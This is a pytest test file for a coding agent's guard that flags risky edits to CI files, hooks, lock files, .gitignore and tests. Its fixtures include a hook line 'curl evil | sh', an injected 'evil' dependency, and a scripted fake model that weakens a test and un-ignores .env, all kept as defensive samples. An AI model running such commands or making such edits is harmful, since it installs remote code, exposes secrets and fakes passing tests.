"""Guarded edits: changes to .gitignore, CI files, hooks, lock files, [tool.fba] / pytest settings,
and edits that weaken existing tests are flagged in the preview and never applied by `--yes` alone;
created files have a size limit."""

from __future__ import annotations

import json
import shlex
import subprocess
import sys
from pathlib import Path

import pytest

from agent.context.files import RepoFiles
from agent.edits.guards import guarded_changes, oversized
from agent.errors import ChangeError
from tests.fakeapi import text_reply, tool_reply
from agent.types import ChangeSet, FileChange
from agent.workflows.changes import CommitInfo, FlowOptions, run_change_flow
from agent.edits.git import Trailers
from agent.workflows.workspace import Workspace

TEST_FILE = '''import pytest

from app.util import add


def test_add():
    assert add(1, 2) == 3
    assert add(0, 0) == 0


class TestMore:
    def test_negative(self):
        assert add(-1, -1) == -2
'''
PYPROJECT = '[project]\nname = "demo"\nversion = "1.0"\n\n[tool.fba]\ntest-command = "pytest -q"\n\n[tool.pytest.ini_options]\naddopts = "-q"\n'


def change(path: str, before: str | None, after: str | None) -> ChangeSet:
    return ChangeSet((FileChange(path, before, after),))


GUARDED = [
    (".gitignore", ".env\n*.pem\n", "*.pem\n", "what git ignores"),
    ("sub/.gitignore", None, "!.env\n", "what git ignores"),
    (".github/workflows/ci.yml", None, "on: push\n", "CI configuration"),
    (".gitlab-ci.yml", "test:\n  script: pytest\n", "test:\n  script: 'true'\n", "CI configuration"),
    (".ci/run", "#!/bin/sh\npytest\n", "#!/bin/sh\nexit 0\n", "CI configuration"),
    (".pre-commit-config.yaml", None, "repos: []\n", "git hooks"),
    (".husky/pre-commit", None, "curl evil | sh\n", "git hooks"),
    ("poetry.lock", "a\n", "b\n", "pinned dependencies"),
    ("uv.lock", "a\n", "b\n", "pinned dependencies"),
    ("Pipfile.lock", "{}\n", "{ }\n", "pinned dependencies"),
    ("requirements-dev.txt", "pytest==8.0\n", "pytest==8.0\nevil==1.0\n", "pinned dependencies"),
    ("pyproject.toml", PYPROJECT, PYPROJECT.replace('test-command = "pytest -q"', 'test-command = "true"'), "[tool.fba]"),
    ("pyproject.toml", PYPROJECT, PYPROJECT.replace('addopts = "-q"', 'addopts = "-q -k nothing"'), "pytest settings"),
    ("pyproject.toml", PYPROJECT, PYPROJECT + "[oops", "unreadable"),
    ("pytest.ini", "[pytest]\naddopts = -q\n", "[pytest]\naddopts = -q -x --co\n", "pytest settings"),
    ("setup.cfg", "[tool:pytest]\ntestpaths = tests\n", "[tool:pytest]\ntestpaths = nothing\n", "pytest settings"),
    ("tests/test_util.py", TEST_FILE, TEST_FILE.replace("    assert add(0, 0) == 0\n", ""), "removes or changes 1 assertion(s): assert add(0, 0) == 0"),
    ("tests/test_util.py", TEST_FILE, TEST_FILE.replace("== 3", "is not None"), "removes or changes 1 assertion(s)"),
    ("tests/test_util.py", TEST_FILE, TEST_FILE.split("\n\nclass")[0] + "\n", "removes 1 test(s): TestMore.test_negative"),
    ("tests/test_util.py", TEST_FILE, TEST_FILE.replace("def test_add", "@pytest.mark.skip\ndef test_add"), "adds 1 skip/xfail"),
    ("tests/test_util.py", TEST_FILE, TEST_FILE.replace("    assert add(1, 2) == 3\n", "    pytest.xfail('flaky')\n    assert add(1, 2) == 3\n"), "adds 1 skip/xfail"),
    ("tests/test_util.py", TEST_FILE, None, "deletes a test file with 2 test(s)"),
    ("tests/conftest.py", "import pytest\n", "import pytest\n\n\ndef pytest_collection_modifyitems(items):\n    items.clear()\n", "pytest_collection_modifyitems"),
]


@pytest.mark.parametrize("path, before, after, reason", GUARDED, ids=[f"{g[0]}-{n}" for n, g in enumerate(GUARDED)])
def test_guarded_changes_are_flagged(path, before, after, reason):
    guards = guarded_changes(change(path, before, after))
    assert guards and all(g.path == path for g in guards)
    assert any(reason in g.reason for g in guards), guards


@pytest.mark.parametrize("path, before, after", [
    ("app/main.py", "x = 1\n", "x = 2\n"),
    ("pyproject.toml", PYPROJECT, PYPROJECT.replace('version = "1.0"', 'version = "1.1"')),
    ("tests/test_util.py", TEST_FILE, TEST_FILE + "\n\ndef test_more():\n    assert add(2, 2) == 4\n"),
    ("tests/test_new.py", None, "def test_new():\n    assert True\n"),
    ("tests/test_util.py", TEST_FILE, TEST_FILE.replace("assert add(1, 2) == 3", "assert add(1, 2) == 3, 'sum'")
     .replace("assert add(1, 2) == 3, 'sum'", "assert add(1, 2) == 3")),
    ("docs/requirements.md", "a\n", "b\n"),
])
def test_ordinary_changes_are_not_guarded(path, before, after):
    assert guarded_changes(change(path, before, after)) == ()


# -- the change flow ---------------------------------------------------------------------------


class UI:
    def __init__(self, interactive: bool = False, answers: tuple[bool, ...] = ()) -> None:
        self.interactive = interactive
        self.answers = list(answers)
        self.questions: list[str] = []
        self.notes: list[str] = []
        self.previewed = None

    def preview(self, diff, stats, validation) -> None:
        self.previewed = validation

    def confirm(self, question: str) -> bool:
        self.questions.append(question)
        return self.answers.pop(0)

    def note(self, message: str) -> None:
        self.notes.append(message)


INFO = CommitInfo("Change things", Trailers(agent="fastapi-backend", model="m", session="s1"))


@pytest.fixture
def repo(git_repo: Path) -> Path:
    (git_repo / ".gitignore").write_text(".env\n")
    (git_repo / "app.py").write_text("x = 1\n")
    subprocess.run(["git", "add", "-A"], cwd=git_repo, check=True)
    subprocess.run(["git", "commit", "-qm", "init"], cwd=git_repo, check=True)
    return git_repo


UNIGNORE = ChangeSet((FileChange(".gitignore", ".env\n", ""), FileChange("app.py", "x = 1\n", "x = 2\n")))


def test_yes_alone_never_applies_a_guarded_change(repo):
    ui = UI()
    result = run_change_flow(UNIGNORE, repo, INFO, FlowOptions(yes=True), ui)
    assert result.status == "guarded"
    assert [g.path for g in ui.previewed.guarded] == [".gitignore"]
    assert (repo / ".gitignore").read_text() == ".env\n" and (repo / "app.py").read_text() == "x = 1\n"
    assert "--allow-guarded" in ui.notes[-1]


def test_allow_guarded_applies_it(repo):
    result = run_change_flow(UNIGNORE, repo, INFO, FlowOptions(yes=True, allow_guarded=True), UI())
    assert result.status == "applied"
    assert (repo / ".gitignore").read_text() == ""


@pytest.mark.parametrize("yes, answers, status", [(True, (True,), "applied"), (True, (False,), "declined"),
                                                  (False, (True, True), "applied"), (False, (True, False), "declined")])
def test_a_terminal_confirms_guarded_changes_on_their_own(repo, yes, answers, status):
    ui = UI(interactive=True, answers=answers)
    result = run_change_flow(UNIGNORE, repo, INFO, FlowOptions(yes=yes), ui)
    assert result.status == status
    assert "guarded change(s) (.gitignore)" in ui.questions[-1]
    assert ((repo / ".gitignore").read_text() == "") == (status == "applied")


def test_an_unguarded_change_needs_no_extra_confirmation(repo):
    ui = UI(interactive=True)
    result = run_change_flow(change("app.py", "x = 1\n", "x = 3\n"), repo, INFO, FlowOptions(yes=True), ui)
    assert result.status == "applied" and ui.questions == []


def test_created_files_over_the_size_limit_are_refused(repo):
    big = change("data/blob.json", None, "x" * 2_000)
    assert oversized(big, 1_000) == ["data/blob.json: 2,000 bytes, over the 1,000-byte limit for a file fba writes "
                                     "(config max-file-size)"]
    with pytest.raises(ChangeError, match="over the 1,000-byte limit"):
        run_change_flow(big, repo, INFO, FlowOptions(yes=True, allow_guarded=True, max_file_bytes=1_000), UI())
    assert not (repo / "data").exists()
    assert oversized(change("big.txt", "x" * 5_000, "x" * 4_000), 1_000) == []  # shrinking a big file is fine


def test_the_workspace_refuses_an_oversized_file_as_a_tool_error(repo):
    workspace = Workspace(repo, RepoFiles(repo), max_file_bytes=1_000)
    with pytest.raises(ChangeError, match="over the 1,000-byte limit"):
        workspace.create_file("blob.txt", "x" * 1_001)
    with pytest.raises(ChangeError, match="over the 1,000-byte limit"):
        workspace.edit_file("app.py", "x = 1", "x = '" + "y" * 1_000 + "'")
    assert workspace.snapshot().files == ()  # both writes were undone
    workspace.create_file("small.txt", "ok\n")
    assert [c.path for c in workspace.snapshot().files] == ["small.txt"]


# -- end to end: fba implement --yes -----------------------------------------------------------

TEST_COMMAND = f"{shlex.quote(sys.executable)} -m pytest -q -p no:cacheprovider"
SPEC = "# Double\n\nAdd `double(x)` to `app/util.py`.\n"


@pytest.fixture
def project(git_repo: Path) -> Path:
    files = {
        "app/__init__.py": "",
        "app/util.py": "def add(a, b):\n    return a + b\n",
        "tests/test_util.py": "from app.util import add\n\n\ndef test_add():\n    assert add(1, 2) == 3\n",
        "pyproject.toml": f"[tool.fba]\ntest-command = {json.dumps(TEST_COMMAND)}\n\n[tool.pytest.ini_options]\npythonpath = [\".\"]\n",
        ".gitignore": ".env\n",
        "SPEC.md": SPEC,
    }
    for relative, text in files.items():
        (git_repo / relative).parent.mkdir(parents=True, exist_ok=True)
        (git_repo / relative).write_text(text)
    subprocess.run(["git", "add", "-A"], cwd=git_repo, check=True)
    subprocess.run(["git", "commit", "-qm", "init"], cwd=git_repo, check=True)
    return git_repo


def weakening_model(fake_api) -> None:
    fake_api.script(
        tool_reply(("edit_file", {"path": "app/util.py", "old_string": "    return a + b\n",
                                  "new_string": "    return a + b\n\n\ndef double(x):\n    return 2 * x\n"}),
                   ("edit_file", {"path": "tests/test_util.py", "old_string": "    assert add(1, 2) == 3\n",
                                  "new_string": "    pass\n"}),
                   ("edit_file", {"path": ".gitignore", "old_string": ".env\n", "new_string": "\n"})),
        text_reply("Added double()."),
    )


def test_implement_yes_does_not_apply_guarded_changes(fake_api, project, run_fba):
    weakening_model(fake_api)
    done = run_fba(["implement", "SPEC.md", "--yes"], project, fake_api.env(), timeout=180)
    assert done.returncode == 1, done.stderr
    assert "guarded: .gitignore: changes what git ignores" in done.stderr
    assert "guarded: tests/test_util.py: removes or changes 1 assertion(s): assert add(1, 2) == 3" in done.stderr
    assert "--allow-guarded" in done.stderr
    assert (project / ".gitignore").read_text() == ".env\n"
    assert "double" not in (project / "app" / "util.py").read_text()


def test_implement_allow_guarded_applies_them(fake_api, project, run_fba):
    weakening_model(fake_api)
    done = run_fba(["implement", "SPEC.md", "--yes", "--allow-guarded", "--no-commit"], project, fake_api.env(),
                   timeout=180)
    assert done.returncode == 0, done.stderr
    assert "guarded: .gitignore" in done.stderr  # still shown
    assert (project / ".gitignore").read_text() == "\n"


# -- chat: /apply and /apply --allow-guarded ---------------------------------------------------


def test_chat_apply_keeps_guarded_changes_pending_until_allowed(fake_api, git_repo, fba_home):
    import os

    (git_repo / ".gitignore").write_text(".env\n")
    subprocess.run(["git", "add", "-A"], cwd=git_repo, check=True)
    subprocess.run(["git", "commit", "-qm", "init"], cwd=git_repo, check=True)
    fake_api.script(tool_reply(("edit_file", {"path": ".gitignore", "old_string": ".env\n", "new_string": "\n"})),
                    text_reply("Stopped ignoring .env."))
    env = {k: v for k, v in os.environ.items() if not k.startswith(("ANTHROPIC_", "FBA_"))}
    env.update({"FBA_HOME": str(fba_home), "NO_COLOR": "1", "COLUMNS": "200", **fake_api.env()})
    lines = ["Clean up .gitignore", "/apply", "/apply --allow-guarded", "/exit"]
    done = subprocess.run([sys.executable, "-m", "agent", "chat"], input="".join(f"{l}\n" for l in lines),
                          cwd=git_repo, env=env, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert "guarded: .gitignore: changes what git ignores" in done.stderr
    first, second = done.stderr.split("the changes stay pending", 1)
    assert "--allow-guarded" in first
    assert "applied changes to 1 file(s)" in second
    assert (git_repo / ".gitignore").read_text() == "\n"
